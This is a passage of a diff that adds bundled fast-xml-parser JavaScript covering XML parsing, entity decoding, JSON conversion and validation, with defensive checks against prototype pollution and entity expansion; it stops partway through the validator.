+      if (attrName.length) {
+        if (options.transformAttributeName) {
+          aName = options.transformAttributeName(aName);
+        }
+        aName = sanitizeName(aName, options);
+
+        if (attrValue(matches[i]) !== undefined) {
+          // Reuse already-processed value — no double entity replacement
+          const oldVal = processedVals[i];
+
+          const newVal = options.attributeValueProcessor(attrName, oldVal, jPathStr);
+          if (newVal === null || newVal === undefined) {
+            attrs[aName] = oldVal;
+          } else if (typeof newVal !== typeof oldVal || newVal !== oldVal) {
+            attrs[aName] = newVal;
+          } else {
+            attrs[aName] = parseValue(oldVal, options.parseAttributeValue, options.numberParseOptions);
+          }
+          hasAttrs = true;
+        } else if (options.allowBooleanAttributes) {
+          attrs[aName] = true;
+          hasAttrs = true;
+        }
+      }
+    }
+
+    if (!hasAttrs) return;
+
+    if (options.attributesGroupName && !options.preserveOrder) {
+      const attrCollection = {};
+      attrCollection[options.attributesGroupName] = attrs;
+      return attrCollection;
+    }
+    return attrs;
+  }
+}
+const parseXml = function (xmlData) {
+  const options = this.options;
+  const crlfPositions = options.captureMetaData ? [] : undefined;
+  xmlData = xmlData.replace(/\r\n?/g, options.captureMetaData ? (newline, index) => {
+    if (newline.length === 2) {
+      // Store the position after earlier CRLF pairs have been normalized.
+      crlfPositions.push(index - crlfPositions.length);
+    }
+    return "\n";
+  } : "\n");
+  const xmlObj = new XmlNode('!xml');
+  let currentNode = xmlObj;
+  let textData = "";
+
+  // Reset matcher for new document
+  this.matcher.reset();
+  this.entityDecoder.reset();
+
+  // Reset entity expansion counters for this document
+  this.entityExpansionCount = 0;
+  this.currentExpandedLength = 0;
+  this.doctypefound = false;
+  const docTypeReader = new DocTypeReader(options.processEntities);
+  const xmlLen = xmlData.length;
+  for (let i = 0; i < xmlLen; i++) {//for each char in XML data
+    const ch = xmlData[i];
+    if (ch === '<') {
+      // const nextIndex = i+1;
+      // const _2ndChar = xmlData[nextIndex];
+      const c1 = xmlData.charCodeAt(i + 1);
+      if (c1 === 47) {//Closing Tag '/'
+        const closeIndex = findClosingIndex(xmlData, ">", i, "Closing Tag is not closed.")
+        let tagName = xmlData.substring(i + 2, closeIndex).trim();
+
+        if (options.removeNSPrefix) {
+          const colonIndex = tagName.indexOf(":");
+          if (colonIndex !== -1) {
+            tagName = tagName.substr(colonIndex + 1);
+          }
+        }
+
+        tagName = transformTagName(options.transformTagName, tagName, "", options).tagName;
+
+        if (currentNode) {
+          textData = this.saveTextToParentTag(textData, currentNode, this.readonlyMatcher);
+        }
+
+        //check if last tag of nested tag was unpaired tag
+        const lastTagName = this.matcher.getCurrentTag();
+        if (tagName && options.unpairedTagsSet.has(tagName)) {
+          throw new Error(`Unpaired tag can not be used as closing tag: </${tagName}>`);
+        }
+        if (lastTagName && options.unpairedTagsSet.has(lastTagName)) {
+          // Pop the unpaired tag
+          this.matcher.pop();
+          this.tagsNodeStack.pop();
+        }
+        // Pop the closing tag
+        this.matcher.pop();
+        this.isCurrentNodeStopNode = false; // Reset flag when closing tag
+
+        //a closing tag with no matching opening tag leaves the stack empty
+        currentNode = this.tagsNodeStack.pop() || xmlObj;//avoid recursion, set the parent tag scope
+
+        if (options.captureMetaData && currentNode) {
+          currentNode.addEndIndex(getOriginalIndex(closeIndex + 1, crlfPositions));
+        }
+        textData = "";
+        i = closeIndex;
+      } else if (c1 === 63) { //'?'
+
+        let tagData = readTagExp(xmlData, i, false, "?>");
+        if (!tagData) throw new Error("Pi Tag is not closed.");
+
+        textData = this.saveTextToParentTag(textData, currentNode, this.readonlyMatcher);
+        const attsMap = this.buildAttributesMap(tagData.tagExp, this.matcher, tagData.tagName, true);
+        if (attsMap) {
+          const ver = attsMap[this.options.attributeNamePrefix + "version"];
+          this.entityDecoder.setXmlVersion(Number(ver) || 1.0);
+          docTypeReader.setXmlVersion(Number(ver) || 1.0);
+        }
+        if ((options.ignoreDeclaration && tagData.tagName === "?xml") || options.ignorePiTags) {
+          //do nothing
+        } else {
+
+          const childNode = new XmlNode(tagData.tagName);
+          childNode.add(options.textNodeName, "");
+
+          if (tagData.tagName !== tagData.tagExp && tagData.attrExpPresent && options.ignoreAttributes !== true) {
+            childNode[":@"] = attsMap
+          }
+          const startIndex = options.captureMetaData ? getOriginalIndex(i, crlfPositions) : i;
+          this.addChild(currentNode, childNode, this.readonlyMatcher, startIndex);
+
+          if (options.captureMetaData) {
+            // closeIndex points at '?' of the closing '?>'
+            currentNode.addEndIndex(getOriginalIndex(tagData.closeIndex + 2, crlfPositions));
+          }
+        }
+
+
+        i = tagData.closeIndex + 1;
+      } else if (c1 === 33
+        && xmlData.charCodeAt(i + 2) === 45
+        && xmlData.charCodeAt(i + 3) === 45) { //'!--'
+        const endIndex = findClosingIndex(xmlData, "-->", i + 4, "Comment is not closed.")
+        if (options.commentPropName) {
+          const comment = xmlData.substring(i + 4, endIndex - 2);
+
+          textData = this.saveTextToParentTag(textData, currentNode, this.readonlyMatcher);
+
+          currentNode.add(options.commentPropName, [{ [options.textNodeName]: comment }]);
+        }
+        i = endIndex;
+      } else if (c1 === 33
+        && xmlData.charCodeAt(i + 2) === 68) { //'!D'
+        if (this.doctypefound) throw new Error("Multiple DOCTYPE declarations found.");
+        this.doctypefound = true;
+        const result = docTypeReader.readDocType(xmlData, i);
+        this.entityDecoder.addInputEntities(result.entities);
+        i = result.i;
+      } else if (c1 === 33
+        && xmlData.charCodeAt(i + 2) === 91) { // '!['
+        const closeIndex = findClosingIndex(xmlData, "]]>", i, "CDATA is not closed.") - 2;
+        const tagExp = xmlData.substring(i + 9, closeIndex);
+
+        textData = this.saveTextToParentTag(textData, currentNode, this.readonlyMatcher);
+
+        let val = this.parseTextData(tagExp, currentNode.tagname, this.readonlyMatcher, true, false, true, true);
+        if (val == undefined) val = "";
+
+        //cdata should be set even if it is 0 length string
+        if (options.cdataPropName) {
+          currentNode.add(options.cdataPropName, [{ [options.textNodeName]: tagExp }]);
+        } else {
+          currentNode.add(options.textNodeName, val);
+        }
+
+        i = closeIndex + 2;
+      } else {//Opening tag
+        let result = readTagExp(xmlData, i, options.removeNSPrefix);
+
+        // Safety check: readTagExp can return undefined
+        if (!result) {
+          // Log context for debugging
+          const context = xmlData.substring(Math.max(0, i - 50), Math.min(xmlLen, i + 50));
+          throw new Error(`readTagExp returned undefined at position ${i}. Context: "${context}"`);
+        }
+
+        let tagName = result.tagName;
+        const rawTagName = result.rawTagName;
+        let tagExp = result.tagExp;
+        let attrExpPresent = result.attrExpPresent;
+        let closeIndex = result.closeIndex;
+
+        ({ tagName, tagExp } = transformTagName(options.transformTagName, tagName, tagExp, options));
+
+        if (options.strictReservedNames &&
+          (tagName === options.commentPropName
+            || tagName === options.cdataPropName
+            || tagName === options.textNodeName
+            || tagName === options.attributesGroupName
+          )) {
+          throw new Error(`Invalid tag name: ${tagName}`);
+        }
+
+        //save text as child node
+        if (currentNode && textData) {
+          if (currentNode.tagname !== '!xml') {
+            //when nested tag is found
+            textData = this.saveTextToParentTag(textData, currentNode, this.readonlyMatcher, false);
+          }
+        }
+
+        //check if last tag was unpaired tag
+        const lastTag = currentNode;
+        if (lastTag && options.unpairedTagsSet.has(lastTag.tagname)) {
+          currentNode = this.tagsNodeStack.pop();
+          this.matcher.pop();
+        }
+
+        // Clean up self-closing syntax BEFORE processing attributes
+        // This is where tagExp gets the trailing / removed
+        let isSelfClosing = false;
+        if (tagExp.length > 0 && tagExp.lastIndexOf("/") === tagExp.length - 1) {
+          isSelfClosing = true;
+          if (tagName[tagName.length - 1] === "/") {
+            tagName = tagName.substr(0, tagName.length - 1);
+            tagExp = tagName;
+          } else {
+            tagExp = tagExp.substr(0, tagExp.length - 1);
+          }
+
+          // Re-check attrExpPresent after cleaning
+          attrExpPresent = (tagName !== tagExp);
+        }
+
+        // Now process attributes with CLEAN tagExp (no trailing /)
+        let prefixedAttrs = null;
+        let rawAttrs = {};
+        let namespace = undefined;
+
+        // Extract namespace from rawTagName
+        namespace = extractNamespace(rawTagName);
+
+        // Push tag to matcher FIRST (with empty attrs for now) so callbacks see correct path
+        if (tagName !== xmlObj.tagname) {
+          this.matcher.push(tagName, {}, namespace);
+        }
+
+        // Now build attributes - callbacks will see correct matcher state
+        if (tagName !== tagExp && attrExpPresent) {
+          // Build attributes (returns prefixed attributes for the tree)
+          // Note: buildAttributesMap now internally updates the matcher with raw attributes
+          prefixedAttrs = this.buildAttributesMap(tagExp, this.matcher, tagName);
+
+          if (prefixedAttrs) {
+            // Extract raw attributes (without prefix) for our use
+            //TODO: seems a performance overhead
+            rawAttrs = extractRawAttributes(prefixedAttrs, options);
+          }
+        }
+
+        // Now check if this is a stop node (after attributes are set)
+        if (tagName !== xmlObj.tagname) {
+          this.isCurrentNodeStopNode = this.isItStopNode();
+        }
+
+        const startIndex = options.captureMetaData ? getOriginalIndex(i, crlfPositions) : i;
+        if (this.isCurrentNodeStopNode) {
+          let tagContent = "";
+
+          // For self-closing tags, content is empty
+          if (isSelfClosing) {
+            i = result.closeIndex;
+          }
+          //unpaired tag
+          else if (options.unpairedTagsSet.has(tagName)) {
+            i = result.closeIndex;
+          }
+          //normal tag
+          else {
+            //read until closing tag is found
+            const result = this.readStopNodeData(xmlData, rawTagName, closeIndex + 1);
+            if (!result) throw new Error(`Unexpected end of ${rawTagName}`);
+            i = result.i;
+            tagContent = result.tagContent;
+          }
+
+          const childNode = new XmlNode(tagName);
+
+          if (prefixedAttrs) {
+            childNode[":@"] = prefixedAttrs;
+          }
+
+          // For stop nodes, store raw content as-is without any processing
+          childNode.add(options.textNodeName, tagContent);
+
+          this.matcher.pop(); // Pop the stop node tag
+          this.isCurrentNodeStopNode = false; // Reset flag
+
+          this.addChild(currentNode, childNode, this.readonlyMatcher, startIndex);
+
+          if (options.captureMetaData) {
+            currentNode.addEndIndex(getOriginalIndex(i + 1, crlfPositions));
+          }
+        } else {
+          //selfClosing tag
+          if (isSelfClosing) {
+            ({ tagName, tagExp } = transformTagName(options.transformTagName, tagName, tagExp, options));
+
+            const childNode = new XmlNode(tagName);
+            if (prefixedAttrs) {
+              childNode[":@"] = prefixedAttrs;
+            }
+            this.addChild(currentNode, childNode, this.readonlyMatcher, startIndex);
+
+            if (options.captureMetaData) {
+              currentNode.addEndIndex(getOriginalIndex(closeIndex + 1, crlfPositions));
+            }
+            this.matcher.pop(); // Pop self-closing tag
+            this.isCurrentNodeStopNode = false; // Reset flag
+          }
+          else if (options.unpairedTagsSet.has(tagName)) {//unpaired tag
+            const childNode = new XmlNode(tagName);
+            if (prefixedAttrs) {
+              childNode[":@"] = prefixedAttrs;
+            }
+            this.addChild(currentNode, childNode, this.readonlyMatcher, startIndex);
+
+            if (options.captureMetaData) {
+              currentNode.addEndIndex(getOriginalIndex(result.closeIndex + 1, crlfPositions));
+            }
+            this.matcher.pop(); // Pop unpaired tag
+            this.isCurrentNodeStopNode = false; // Reset flag
+            i = result.closeIndex;
+            // Continue to next iteration without changing currentNode
+            continue;
+          }
+          //opening tag
+          else {
+            const childNode = new XmlNode(tagName);
+            if (this.tagsNodeStack.length > options.maxNestedTags) {
+              throw new Error("Maximum nested tags exceeded");
+            }
+            this.tagsNodeStack.push(currentNode);
+
+            if (prefixedAttrs) {
+              childNode[":@"] = prefixedAttrs;
+            }
+            this.addChild(currentNode, childNode, this.readonlyMatcher, startIndex);
+            currentNode = childNode;
+          }
+          textData = "";
+          i = closeIndex;
+        }
+      }
+    } else {
+      textData += xmlData[i];
+    }
+  }
+  return xmlObj.child;
+}
+
+function getOriginalIndex(index, crlfPositions) {
+  let low = 0;
+  let high = crlfPositions.length;
+  while (low < high) {
+    const middle = Math.floor((low + high) / 2);
+    if (crlfPositions[middle] < index) low = middle + 1;
+    else high = middle;
+  }
+  return index + low;
+}
+
+function addChild(currentNode, childNode, matcher, startIndex) {
+  // unset startIndex if not requested
+  if (!this.options.captureMetaData) startIndex = undefined;
+
+  // Pass jPath string or matcher based on options.jPath setting
+  const jPathOrMatcher = this.options.jPath ? matcher.toString() : matcher;
+  const result = this.options.updateTag(childNode.tagname, jPathOrMatcher, childNode[":@"])
+  if (result === false) {
+    //do nothing
+  } else if (typeof result === "string") {
+    childNode.tagname = result
+    currentNode.addChild(childNode, startIndex);
+  } else {
+    currentNode.addChild(childNode, startIndex);
+  }
+}
+
+/**
+ * @param {object} val - Entity object with regex and val properties
+ * @param {string} tagName - Tag name
+ * @param {string|Matcher} jPath - jPath string or Matcher instance based on options.jPath
+ */
+function replaceEntitiesValue(val, tagName, jPath) {
+  const entityConfig = this.options.processEntities;
+
+  if (!entityConfig || !entityConfig.enabled) {
+    return val;
+  }
+
+  // Check if tag is allowed to contain entities
+  if (entityConfig.allowedTags) {
+    const jPathOrMatcher = this.options.jPath ? jPath.toString() : jPath;
+    const allowed = Array.isArray(entityConfig.allowedTags)
+      ? entityConfig.allowedTags.includes(tagName)
+      : entityConfig.allowedTags(tagName, jPathOrMatcher);
+
+    if (!allowed) {
+      return val;
+    }
+  }
+
+  // Apply custom tag filter if provided
+  if (entityConfig.tagFilter) {
+    const jPathOrMatcher = this.options.jPath ? jPath.toString() : jPath;
+    if (!entityConfig.tagFilter(tagName, jPathOrMatcher)) {
+      return val; // Skip based on custom filter
+    }
+  }
+
+  return this.entityDecoder.decode(val);
+}
+
+
+function saveTextToParentTag(textData, parentNode, matcher, isLeafNode) {
+  if (textData) { //store previously collected data as textNode
+    if (isLeafNode === undefined) isLeafNode = parentNode.child.length === 0
+
+    textData = this.parseTextData(textData,
+      parentNode.tagname,
+      matcher,
+      false,
+      parentNode[":@"] ? Object.keys(parentNode[":@"]).length !== 0 : false,
+      isLeafNode);
+
+    if (textData !== undefined && textData !== "")
+      parentNode.add(this.options.textNodeName, textData);
+    textData = "";
+  }
+  return textData;
+}
+
+/**
+ * @param {Array<Expression>} stopNodeExpressions - Array of compiled Expression objects
+ * @param {Matcher} matcher - Current path matcher
+ */
+function isItStopNode() {
+  if (this.stopNodeExpressionsSet.size === 0) return false;
+
+  return this.matcher.matchesAny(this.stopNodeExpressionsSet);
+}
+
+/**
+ * Returns the tag Expression and where it is ending handling single-double quotes situation
+ * @param {string} xmlData 
+ * @param {number} i starting index
+ * @returns 
+ */
+function tagExpWithClosingIndex(xmlData, i, closingChar = ">") {
+  //TODO: ignore boolean attributes in tag expression
+  //TODO: if ignore attributes, dont read full attribute expression but the end. But read for xml declaration
+  const len = xmlData.length;
+  const closeCode0 = closingChar.charCodeAt(0);
+  const closeCode1 = closingChar.length > 1 ? closingChar.charCodeAt(1) : -1;
+
+  let result = '';
+  let segmentStart = i;
+
+  for (let index = i; index < len; index++) {
+    const code = xmlData.charCodeAt(index);
+
+    if (code === 34 || code === 39) { // " or '
+      // Skip the quoted value in one step: nothing inside it can close the tag
+      index = xmlData.indexOf(xmlData[index], index + 1);
+      if (index === -1) return;
+    } else if (code === closeCode0) {
+      if (closeCode1 !== -1) {
+        if (xmlData.charCodeAt(index + 1) === closeCode1) {
+          result += xmlData.substring(segmentStart, index);
+          return { data: result, index };
+        }
+      } else {
+        result += xmlData.substring(segmentStart, index);
+        return { data: result, index };
+      }
+    } else if (code === 9) { // \t - only replace with space outside attribute values
+      // Flush accumulated segment, add space, start new segment
+      result += xmlData.substring(segmentStart, index) + ' ';
+      segmentStart = index + 1;
+    }
+  }
+}
+
+function findClosingIndex(xmlData, str, i, errMsg) {
+  const closingIndex = xmlData.indexOf(str, i);
+  if (closingIndex === -1) {
+    throw new Error(errMsg)
+  } else {
+    return closingIndex + str.length - 1;
+  }
+}
+
+function findClosingChar(xmlData, char, i, errMsg) {
+  const closingIndex = xmlData.indexOf(char, i);
+  if (closingIndex === -1) throw new Error(errMsg);
+  return closingIndex; // no offset needed
+}
+
+function readTagExp(xmlData, i, removeNSPrefix, closingChar = ">") {
+  const result = tagExpWithClosingIndex(xmlData, i + 1, closingChar);
+  if (!result) return;
+  let tagExp = result.data;
+  const closeIndex = result.index;
+  const separatorIndex = tagExp.search(/\s/);
+  let tagName = tagExp;
+  let attrExpPresent = true;
+  if (separatorIndex !== -1) {//separate tag name and attributes expression
+    tagName = tagExp.substring(0, separatorIndex);
+    tagExp = tagExp.substring(separatorIndex + 1).trimStart();
+  }
+
+  const rawTagName = tagName;
+  if (removeNSPrefix) {
+    const colonIndex = tagName.indexOf(":");
+    if (colonIndex !== -1) {
+      tagName = tagName.substr(colonIndex + 1);
+      attrExpPresent = tagName !== result.data.substr(colonIndex + 1);
+    }
+  }
+
+  return {
+    tagName: tagName,
+    tagExp: tagExp,
+    closeIndex: closeIndex,
+    attrExpPresent: attrExpPresent,
+    rawTagName: rawTagName,
+  }
+}
+/**
+ * find paired tag for a stop node
+ * @param {string} xmlData 
+ * @param {string} tagName 
+ * @param {number} i 
+ */
+function readStopNodeData(xmlData, tagName, i) {
+  const startIndex = i;
+  // Starting at 1 since we already have an open tag
+  let openTagCount = 1;
+  let lenient = false; // set once a quote-aware tag scan fails
+  let nextGt = -1; // cached index of the next '>'
+
+  const xmllen = xmlData.length;
+  for (; i < xmllen; i++) {
+    if (xmlData[i] === "<") {
+      const c1 = xmlData.charCodeAt(i + 1);
+      if (c1 === 47) {//close tag '/'
+        const closeIndex = findClosingChar(xmlData, ">", i, `${tagName} is not closed`);
+        let closeTagName = xmlData.substring(i + 2, closeIndex).trim();
+        if (closeTagName === tagName) {
+          openTagCount--;
+          if (openTagCount === 0) {
+            return {
+              tagContent: xmlData.substring(startIndex, i),
+              i: closeIndex
+            }
+          }
+        }
+        i = closeIndex;
+      } else if (c1 === 63) { //?
+        const closeIndex = findClosingIndex(xmlData, "?>", i + 1, "StopNode is not closed.")
+        i = closeIndex;
+      } else if (c1 === 33
+        && xmlData.charCodeAt(i + 2) === 45
+        && xmlData.charCodeAt(i + 3) === 45) { // '!--'
+        const closeIndex = findClosingIndex(xmlData, "-->", i + 3, "StopNode is not closed.")
+        i = closeIndex;
+      } else if (c1 === 33
+        && xmlData.charCodeAt(i + 2) === 91) { // '!['
+        const closeIndex = findClosingIndex(xmlData, "]]>", i, "StopNode is not closed.") - 2;
+        i = closeIndex;
+      } else {
+        const tagData = lenient ? undefined : readTagExp(xmlData, i, false);
+
+        if (tagData) {
+          const openTagName = tagData.tagName;
+          if (openTagName === tagName && tagData.tagExp[tagData.tagExp.length - 1] !== "/") {
+            openTagCount++;
+          }
+          i = tagData.closeIndex;
+        } else {
+          // no closing '>'. use lenient approach to find '<' instead of readTagExp, to avoid repeated rescans.
+          lenient = true;
+          if (nextGt < i) {
+            nextGt = xmlData.indexOf(">", i);
+            if (nextGt === -1) return; // no '>' left, so no closing tag can follow
+          }
+          const nextLt = xmlData.indexOf("<", i + 1);
+          if (nextLt === -1 || nextLt > nextGt) { // looks like a real tag
+            const exp = xmlData.substring(i + 1, nextGt);
+            const sep = exp.search(/\s/);
+            const name = sep === -1 ? exp : exp.substring(0, sep);
+            if (name === tagName && exp[exp.length - 1] !== "/") openTagCount++;
+            i = nextGt;
+          } // else: treat this '<' as plain text
+        }
+      }
+    }
+  }//end for loop
+}
+
+function parseValue(val, shouldParse, options) {
+  if (shouldParse && typeof val === 'string') {
+    //console.log(options)
+    const newval = val.trim();
+    if (newval === 'true') return true;
+    else if (newval === 'false') return false;
+    else return toNumber(val, options);
+  } else {
+    if (isExist(val)) {
+      return val;
+    } else {
+      return '';
+    }
+  }
+}
+
+function fromCodePoint(str, base, prefix) {
+  const codePoint = Number.parseInt(str, base);
+
+  if (codePoint >= 0 && codePoint <= 0x10FFFF) {
+    return String.fromCodePoint(codePoint);
+  } else {
+    return prefix + str + ";";
+  }
+}
+
+function transformTagName(fn, tagName, tagExp, options) {
+  if (fn) {
+    const newTagName = fn(tagName);
+    if (tagExp === tagName) {
+      tagExp = newTagName
+    }
+    tagName = newTagName;
+  }
+  tagName = sanitizeName(tagName, options);
+  return { tagName, tagExp };
+}
+
+
+
+function sanitizeName(name, options) {
+  if (criticalProperties.includes(name)) {
+    throw new Error(`[SECURITY] Invalid name: "${name}" is a reserved JavaScript keyword that could cause prototype pollution`);
+  } else if (DANGEROUS_PROPERTY_NAMES.includes(name)) {
+    return options.onDangerousProperty(name);
+  }
+  return name;
+}
+;// CONCATENATED MODULE: ./node_modules/fast-xml-parser/src/xmlparser/node2json.js
+
+
+
+
+
+const node2json_METADATA_SYMBOL = XmlNode.getMetaDataSymbol();
+
+/**
+ * Helper function to strip attribute prefix from attribute map
+ * @param {object} attrs - Attributes with prefix (e.g., {"@_class": "code"})
+ * @param {string} prefix - Attribute prefix to remove (e.g., "@_")
+ * @returns {object} Attributes without prefix (e.g., {"class": "code"})
+ */
+function stripAttributePrefix(attrs, prefix) {
+  if (!attrs || typeof attrs !== 'object') return {};
+  if (!prefix) return attrs;
+
+  const rawAttrs = {};
+  for (const key in attrs) {
+    if (key.startsWith(prefix)) {
+      const rawName = key.substring(prefix.length);
+      rawAttrs[rawName] = attrs[key];
+    } else {
+      // Attribute without prefix (shouldn't normally happen, but be safe)
+      rawAttrs[key] = attrs[key];
+    }
+  }
+  return rawAttrs;
+}
+
+/**
+ * 
+ * @param {array} node 
+ * @param {any} options 
+ * @param {Matcher} matcher - Path matcher instance
+ * @returns 
+ */
+function prettify(node, options, matcher, readonlyMatcher) {
+  return compress(node, options, matcher, readonlyMatcher);
+}
+
+/**
+ * @param {array} arr 
+ * @param {object} options 
+ * @param {Matcher} matcher - Path matcher instance
+ * @returns object
+ */
+function compress(arr, options, matcher, readonlyMatcher) {
+  let text;
+  const compressedObj = {}; //This is intended to be a plain object
+  for (let i = 0; i < arr.length; i++) {
+    const tagObj = arr[i];
+    const property = propName(tagObj);
+
+    // Push current property to matcher WITH RAW ATTRIBUTES (no prefix)
+    if (property !== undefined && property !== options.textNodeName) {
+      const rawAttrs = stripAttributePrefix(
+        tagObj[":@"] || {},
+        options.attributeNamePrefix
+      );
+      matcher.push(property, rawAttrs);
+    }
+
+    if (property === options.textNodeName) {
+      if (text === undefined) text = tagObj[property];
+      else text += "" + tagObj[property];
+    } else if (property === undefined) {
+      continue;
+    } else if (tagObj[property]) {
+
+      let val = compress(tagObj[property], options, matcher, readonlyMatcher);
+      const isLeaf = isLeafTag(val, options);
+
+      if (Object.keys(val).length === 0 && options.alwaysCreateTextNode) {
+        val[options.textNodeName] = "";
+      }
+
+      if (tagObj[":@"]) {
+        assignAttributes(val, tagObj[":@"], readonlyMatcher, options);
+      } else if (Object.keys(val).length === 1 && val[options.textNodeName] !== undefined && !options.alwaysCreateTextNode) {
+        val = val[options.textNodeName];
+      } else if (Object.keys(val).length === 0) {
+        if (options.alwaysCreateTextNode) val[options.textNodeName] = "";
+        else val = "";
+      }
+
+      if (tagObj[node2json_METADATA_SYMBOL] !== undefined && typeof val === "object" && val !== null) {
+        val[node2json_METADATA_SYMBOL] = tagObj[node2json_METADATA_SYMBOL]; // copy over metadata
+      }
+
+
+      if (compressedObj[property] !== undefined && Object.prototype.hasOwnProperty.call(compressedObj, property)) {
+        if (!Array.isArray(compressedObj[property])) {
+          compressedObj[property] = [compressedObj[property]];
+        }
+        compressedObj[property].push(val);
+      } else {
+        //TODO: if a node is not an array, then check if it should be an array
+        //also determine if it is a leaf node
+
+        // Pass jPath string or readonlyMatcher based on options.jPath setting
+        const jPathOrMatcher = options.jPath ? readonlyMatcher.toString() : readonlyMatcher;
+        if (options.isArray(property, jPathOrMatcher, isLeaf)) {
+          compressedObj[property] = [val];
+        } else {
+          compressedObj[property] = val;
+        }
+      }
+
+      // Pop property from matcher after processing
+      if (property !== undefined && property !== options.textNodeName) {
+        matcher.pop();
+      }
+    }
+
+  }
+  // if(text && text.length > 0) compressedObj[options.textNodeName] = text;
+  if (typeof text === "string") {
+    if (text.length > 0) compressedObj[options.textNodeName] = text;
+  } else if (text !== undefined) compressedObj[options.textNodeName] = text;
+
+
+  return compressedObj;
+}
+
+function propName(obj) {
+  const keys = Object.keys(obj);
+  for (let i = 0; i < keys.length; i++) {
+    const key = keys[i];
+    if (key !== ":@") return key;
+  }
+}
+
+function assignAttributes(obj, attrMap, readonlyMatcher, options) {
+  if (attrMap) {
+    const keys = Object.keys(attrMap);
+    const len = keys.length; //don't make it inline
+    for (let i = 0; i < len; i++) {
+      const atrrName = keys[i];  // This is the PREFIXED name (e.g., "@_class")
+
+      // Strip prefix for matcher path (for isArray callback)
+      const rawAttrName = atrrName.startsWith(options.attributeNamePrefix)
+        ? atrrName.substring(options.attributeNamePrefix.length)
+        : atrrName;
+
+      // For attributes, we need to create a temporary path
+      // Pass jPath string or matcher based on options.jPath setting
+      const jPathOrMatcher = options.jPath
+        ? readonlyMatcher.toString() + "." + rawAttrName
+        : readonlyMatcher;
+
+      if (options.isArray(atrrName, jPathOrMatcher, true, true)) {
+        obj[atrrName] = [attrMap[atrrName]];
+      } else {
+        obj[atrrName] = attrMap[atrrName];
+      }
+    }
+  }
+}
+
+function isLeafTag(obj, options) {
+  const { textNodeName } = options;
+  const propCount = Object.keys(obj).length;
+
+  if (propCount === 0) {
+    return true;
+  }
+
+  if (
+    propCount === 1 &&
+    (obj[textNodeName] || typeof obj[textNodeName] === "boolean" || obj[textNodeName] === 0)
+  ) {
+    return true;
+  }
+
+  return false;
+}
+;// CONCATENATED MODULE: ./node_modules/fast-xml-parser/src/validator.js
+
+
+
+
+const validator_defaultOptions = {
+  allowBooleanAttributes: false, //A tag can have attributes without any value
+  unpairedTags: []
+};
+
+//const tagsPattern = new RegExp("<\\/?([\\w:\\-_\.]+)\\s*\/?>","g");
+function validator_validate(xmlData, options) {
+  options = Object.assign({}, validator_defaultOptions, options);
+
+  //xmlData = xmlData.replace(/(\r\n|\n|\r)/gm,"");//make it single line
+  //xmlData = xmlData.replace(/(^\s*<\?xml.*?\?>)/g,"");//Remove XML starting tag
+  //xmlData = xmlData.replace(/(<!DOCTYPE[\s\w\"\.\/\-\:]+(\[.*\])*\s*>)/g,"");//Remove DOCTYPE
+  const tags = [];
+  let tagFound = false;
+
+  //indicates that the root tag has been closed (aka. depth 0 has been reached)
+  let reachedRoot = false;
+
+  if (xmlData[0] === '\ufeff') {
+    // check for byte order mark (BOM)
+    xmlData = xmlData.substr(1);
+  }
+
+  for (let i = 0; i < xmlData.length; i++) {
+
+    if (xmlData[i] === '<' && xmlData[i + 1] === '?') {
+      i += 2;
+      i = readPI(xmlData, i);
+      if (i.err) return i;
+    } else if (xmlData[i] === '<') {
+      //starting of tag
+      //read until you reach to '>' avoiding any '>' in attribute value
+      let tagStartPos = i;
+      i++;
+
+      if (xmlData[i] === '!') {
+        i = readCommentAndCDATA(xmlData, i);
+        continue;
+      } else {
+        let closingTag = false;
+        if (xmlData[i] === '/') {
+          //closing tag
+          closingTag = true;
+          i++;
+        }
+        //read tagname
+        let tagName = '';
+        for (; i < xmlData.length &&
+          xmlData[i] !== '>' &&
+          xmlData[i] !== ' ' &&
+          xmlData[i] !== '\t' &&
+          xmlData[i] !== '\n' &&
+          xmlData[i] !== '\r'; i++
+        ) {
+          tagName += xmlData[i];
+        }
+        tagName = tagName.trim();
+        //console.log(tagName);
+
+        if (tagName[tagName.length - 1] === '/') {
+          //self closing tag without attributes
+          tagName = tagName.substring(0, tagName.length - 1);
+          //continue;
+          i--;
+        }
+        if (!validateTagName(tagName)) {
+          let msg;
+          if (tagName.trim().length === 0) {
+            msg = "Invalid space after '<'.";
+          } else {
+            msg = "Tag '" + tagName + "' is an invalid name.";
+          }
+          return getErrorObject('InvalidTag', msg, getLineNumberForPosition(xmlData, i));
+        }
+
+        const result = readAttributeStr(xmlData, i);
+        if (result === false) {
+          return getErrorObject('InvalidAttr', "Attributes for '" + tagName + "' have open quote.", getLineNumberForPosition(xmlData, i));
+        }
+        let attrStr = result.value;
+        i = result.index;
+
+        if (attrStr[attrStr.length - 1] === '/') {
+          //self closing tag
+          const attrStrStart = i - attrStr.length;
+          attrStr = attrStr.substring(0, attrStr.length - 1);
+          const isValid = validateAttributeString(attrStr, options);
+          if (isValid === true) {
+            tagFound = true;
+            //continue; //text may presents after self closing tag
+          } else {
+            //the result from the nested function returns the position of the error within the attribute
+            //in order to get the 'true' error line, we need to calculate the position where the attribute begins (i - attrStr.length) and then add the position within the attribute
+            //this gives us the absolute index in the entire xml, which we can use to find the line at last
+            return getErrorObject(isValid.err.code, isValid.err.msg, getLineNumberForPosition(xmlData, attrStrStart + isValid.err.line));
+          }
+        } else if (closingTag) {
+          if (!result.tagClosed) {
+            return getErrorObject('InvalidTag', "Closing tag '" + tagName + "' doesn't have proper closing.", getLineNumberForPosition(xmlData, i));
+          } else if (attrStr.trim().length > 0) {
+            return getErrorObject('InvalidTag', "Closing tag '" + tagName + "' can't have attributes or invalid starting.", getLineNumberForPosition(xmlData, tagStartPos));
+          } else if (tags.length === 0) {
+            return getErrorObject('InvalidTag', "Closing tag '" + tagName + "' has not been opened.", getLineNumberForPosition(xmlData, tagStartPos));
+          } else {
+            const otg = tags.pop();
+            if (tagName !== otg.tagName) {
+              let openPos = getLineNumberForPosition(xmlData, otg.tagStartPos);
+              return getErrorObject('InvalidTag',
+                "Expected closing tag '" + otg.tagName + "' (opened in line " + openPos.line + ", col " + openPos.col + ") instead of closing tag '" + tagName + "'.",
+                getLineNumberForPosition(xmlData, tagStartPos));
+            }
+
+            //when there are no more tags, we reached the root level.
+            if (tags.length == 0) {
+              reachedRoot = true;
+            }
+          }
+        } else {
+          const isValid = validateAttributeString(attrStr, options);
+          if (isValid !== true) {
+            //the result from the nested function returns the position of the error within the attribute
+            //in order to get the 'true' error line, we need to calculate the position where the attribute begins (i - attrStr.length) and then add the position within the attribute
+            //this gives us the absolute index in the entire xml, which we can use to find the line at last
